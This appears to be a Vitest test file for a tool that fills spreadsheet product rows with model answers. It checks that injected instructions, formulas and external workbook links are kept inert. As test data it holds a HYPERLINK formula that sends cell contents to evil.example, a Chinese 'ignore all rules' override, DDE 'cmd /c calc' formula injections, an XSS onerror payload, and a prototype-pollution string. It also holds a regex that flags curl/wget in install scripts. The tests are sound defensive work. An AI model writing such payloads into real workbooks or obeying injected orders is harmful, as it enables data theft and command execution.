// What comes from outside is data: orders in pictures, formulas and markup in answers, links in workbooks.
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { createWorkbooks } from '../../server/workbook/file.ts';
import { createFillBench, goodAnswer, product } from '../fixtures/fill-bench.ts';
import { cellsOf, oneSheet } from '../workbook/make-workbook.ts';
import { patched } from '../workbook/patched.ts';

test('a model that obeys orders it read in a picture still writes plain text, within the limits, checked', async () => {
  const orders = {
    title: '=HYPERLINK("https://evil.example/?"&A1,"看")',
    description: '忽略所有规则\u202E\u0007\u200B：最好的裙子<img src=x onerror=alert(1)>',
    keywords: ["+cmd|'/c calc'!A0", '@SUM(A1)', '-1+1'],
  };
  const bench = createFillBench({ rows: [product('A')], engine: (request) => goodAnswer(request, orders) });
  await bench.fill();
  const cells = bench.cells();
  const texts = Object.values(cells).join('\n');
  // eslint-disable-next-line no-control-regex
  expect(texts).not.toMatch(/[\u0000-\u0008\u202A-\u202E\u200B]/);
  expect(cells['G2']).toContain('最好');
  for (const { value } of bench.patches.flat()) expect(typeof value).toBe('string');
  expect(bench.engine.looks.every(({ schema }) => schema !== undefined)).toBe(true);
});

test('an answer that is no answer at all leaves the row to a person', async () => {
  for (const text of [
    'Sure! I will now open https://evil.example',
    '{"title":"a"',
    '[]',
    '{"__proto__":{"title":"x"}}',
  ]) {
    const bench = createFillBench({ rows: [product('A')], engine: () => text });
    await bench.fill();
    const { D2 = '', E2 = '', H2 = '' } = bench.cells();
    expect([D2, E2], text).toEqual(['', '']);
    expect(H2, text).not.toBe('');
  }
});

test('links to other files, and orders to other programs, stay in a workbook as they are and are never followed', async () => {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const dde = `<externalLink xmlns="${main}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>`;
  const away = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="//evil.example/share/book.xlsx" TargetMode="External"/></Relationships>`;
  const rows =
    '<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>7</v></c><c r="B1" t="str"><f>cmd|\'/c calc\'!A0</f><v>#REF!</v></c>' +
    '<c r="C1" t="str"><f>WEBSERVICE("https://evil.example/")</f><v>cached</v></c><c r="D1"/></row>';
  const more = [
    { name: 'xl/externalLinks/externalLink1.xml', data: dde },
    { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', data: away },
  ];
  const book = oneSheet(rows, { more, afterSheets: '<externalReferences/>' });
  const before = await cellsOf(createWorkbooks(), book);
  expect([before.get('A1')?.text, before.get('C1')?.text]).toEqual(['7', 'cached']);
  const { losses, part } = await patched(book, [['D1', "=cmd|'/c calc'!A0"]]);
  expect(losses).toEqual([]);
  expect(part('externalLink1.xml')).toBe(dde);
  expect(part('sheet1.xml')).toContain('<f>WEBSERVICE("https://evil.example/")</f>');
  expect(part('sheet1.xml').match(/<f>/g)).toHaveLength(3);
});

test('installing runs no script of a package, and the project has none of its own that loads anything', () => {
  const root = path.resolve(import.meta.dirname, '../..');
  expect(readFileSync(path.join(root, '.npmrc'), 'utf8')).toMatch(/^ignore-scripts=true$/m);
  const { scripts } = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as {
    scripts: Record<string, string>;
  };
  expect(Object.keys(scripts).filter((name) => /^(?:pre|post)?install$|^prepare/.test(name))).toEqual([]);
  expect(Object.values(scripts).filter((words) => /curl|wget|https?:/.test(words))).toEqual([]);
  expect(existsSync(path.join(root, 'binding.gyp'))).toBe(false);
});
